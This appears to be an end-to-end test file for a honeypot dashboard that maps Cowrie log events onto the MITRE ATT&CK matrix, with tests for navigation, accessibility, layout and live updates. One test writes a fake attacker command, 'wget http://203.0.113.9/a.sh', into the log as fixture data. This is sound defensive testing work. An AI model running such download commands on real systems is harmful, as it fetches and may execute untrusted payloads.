import { appendFile, readFile } from 'node:fs/promises';

import type { Browser } from 'playwright-core';
import { expect, test } from 'vitest';

import { violations } from './axe';
import { isDrawn, logIn, visit } from './browser';
import { RECORDING } from './installation';
import { onStage } from './stage';

const TRANSFER = '[data-key="TA0011/T1105"]';

const stage = onStage();

async function arrive(path: string, options: Parameters<Browser['newContext']>[0] = {}) {
  const { page, faults } = await visit(stage.browser, options);
  await logIn(page, stage.at, stage.at.viewer);
  await page.goto(stage.at.url + path);
  return { page, faults };
}

/** Lines of a new visit like one of the recording: another session, from another address, now. */
async function newVisit(command: string): Promise<string> {
  const lines = (await readFile(RECORDING, 'utf8')).trim().split('\n');
  const records = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
  const typed = records.find(({ eventid }) => eventid === 'cowrie.command.input');
  const visited = records.filter(({ session }) => session === typed?.['session']);
  const began = Date.now() - 5_000;
  return visited
    .map((record, index) => ({
      ...record,
      session: 'f00dfeed0001',
      src_ip: '203.0.113.77',
      timestamp: new Date(began + index).toISOString().replace('Z', '000Z'),
      ...(record['eventid'] === 'cowrie.command.input' && { input: command, message: `CMD: ${command}` }),
    }))
    .map((record) => `${JSON.stringify(record)}\n`)
    .join('');
}

test('from the matrix to a technique, its evidence, and whoever left it', async () => {
  const { page, faults } = await arrive('/');
  await page.locator(TRANSFER).click();
  await page.waitForURL(/\/techniques\/T1105/);
  await page.getByRole('heading', { name: 'T1105 Ingress Tool Transfer', level: 1 }).waitFor();
  expect(await page.getByRole('link', { name: /attack\.mitre\.org/ }).getAttribute('rel')).toContain('noreferrer');
  const evidence = page.getByRole('table', { name: 'Evidence' }).getByRole('row').nth(1);
  await evidence.press('Enter');
  await page.waitForURL(/tag=\d+\.[0-9a-f-]{36}/);
  await page.getByRole('complementary').waitFor();
  await evidence.getByRole('link', { name: /^198\.51\.100\./ }).click();
  await page.waitForURL(/\/identities\/[0-9a-f-]{36}/);
  expect(faults).toEqual([]);
});

test('what the address says survives a reload', async () => {
  const { page } = await arrive('/');
  await page.locator(TRANSFER).waitFor();
  await page.getByLabel('Filter techniques').fill('shell');
  await page.getByLabel('Colour', { exact: true }).selectOption('confidence');
  await page.getByRole('button', { name: 'Seen only' }).click();
  const narrowed = page.waitForResponse(/techniques\?.*source_kind=command/);
  await page.getByLabel('Source kind').selectOption('command');
  await narrowed;
  await page.locator('[data-fold="TA0002/T1059"]').click();
  await page.waitForURL(/text=shell/);
  await page.waitForURL(/open=/);
  const shown = async () => ({
    cells: await page.locator('.matrix [data-key]').evaluateAll((cells) => cells.map((cell) => cell.dataset['key'])),
    legend: await page.locator('.overview-legend').textContent(),
  });
  await page.locator('[data-key="TA0002/T1059.004"]').waitFor();
  await expect.poll(async () => (await shown()).cells).not.toContain('TA0011/T1105');
  const before = await shown();
  expect(before.legend).toContain('Highest confidence');
  await page.reload();
  await page.locator('[data-key="TA0002/T1059.004"]').waitFor();
  await expect.poll(shown, { timeout: 10_000 }).toEqual(before);
  expect(await page.getByLabel('Filter techniques').inputValue()).toBe('shell');
});

test('the matrix can be walked by keys', async () => {
  const { page } = await arrive('/');
  await page.locator(TRANSFER).waitFor();
  const focused = () => page.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['key']);
  await page.keyboard.press('/');
  expect(await page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).toBe('Filter techniques');
  await page.locator('.matrix [data-key][tabindex="0"]').focus();
  expect(await page.locator('.matrix [tabindex="0"]').count()).toBe(1);
  const first = await focused();
  await page.keyboard.press('ArrowDown');
  const second = await focused();
  expect(second).not.toBe(first);
  await page.keyboard.press('ArrowUp');
  expect(await focused()).toBe(first);
  await page.keyboard.press('ArrowRight');
  expect(await focused()).toMatch(/^TA0042\//);
  await page.locator('[data-key="TA0002/T1059"]').focus();
  await page.keyboard.press('Space');
  await page.locator('[data-key="TA0002/T1059.001"]').waitFor();
  await page.keyboard.press('ArrowDown');
  expect(await focused()).toBe('TA0002/T1059.001');
  await page.keyboard.press('Enter');
  await page.waitForURL(/\/techniques\/T1059\.001/);
});

test.each([
  ['/', 'dark'],
  ['/', 'light'],
  ['/?colour=confidence&open=TA0002%2FT1059', 'light'],
  ['/techniques', 'light'],
  ['/techniques/T1059', 'dark'],
] as const)('nothing on %s keeps anybody out (%s)', async (path, colorScheme) => {
  const { page, faults } = await arrive(path, { colorScheme });
  await isDrawn(page);
  expect(await violations(page)).toEqual([]);
  expect(faults).toEqual([]);
});

test.each([1440, 820])('no page scrolls sideways at %d pixels', async (width) => {
  const { page } = await arrive('/', { viewport: { width, height: 900 } });
  for (const path of ['/', '/techniques', '/techniques/T1059']) {
    await page.goto(stage.at.url + path);
    await isDrawn(page);
    const over = await page.evaluate(() => {
      const main = document.querySelector('main');
      return (main?.scrollWidth ?? 0) - (main?.clientWidth ?? 0);
    });
    expect(over, path).toBe(0);
  }
});

test('all fifteen tactics are in sight at 1,440 pixels', async () => {
  const { page } = await arrive('/');
  await page.locator(TRANSFER).waitFor();
  const { heads, over } = await page.locator('.matrix').evaluate((matrix) => ({
    heads: matrix.querySelectorAll('h3').length,
    over: matrix.scrollWidth - matrix.clientWidth,
  }));
  expect(heads).toBe(15);
  expect(over).toBe(0);
});

test('a new visit is seen without a reload', async () => {
  const { page, faults } = await arrive('/');
  const counted = async () => Number.parseInt((await page.locator(`${TRANSFER} b`).textContent()) ?? '', 10);
  await page.locator(TRANSFER).waitFor();
  const before = await counted();
  await page.evaluate(() => (window.name = 'the same page'));
  await appendFile(stage.at.log, await newVisit('wget http://203.0.113.9/a.sh'));
  const newest = page.getByRole('list', { name: 'Newest tags' });
  await newest.getByText('203.0.113.77').first().waitFor();
  await expect.poll(counted, { timeout: 20_000 }).toBeGreaterThan(before);
  expect(await page.evaluate(() => window.name)).toBe('the same page');
  expect(faults).toEqual([]);
});
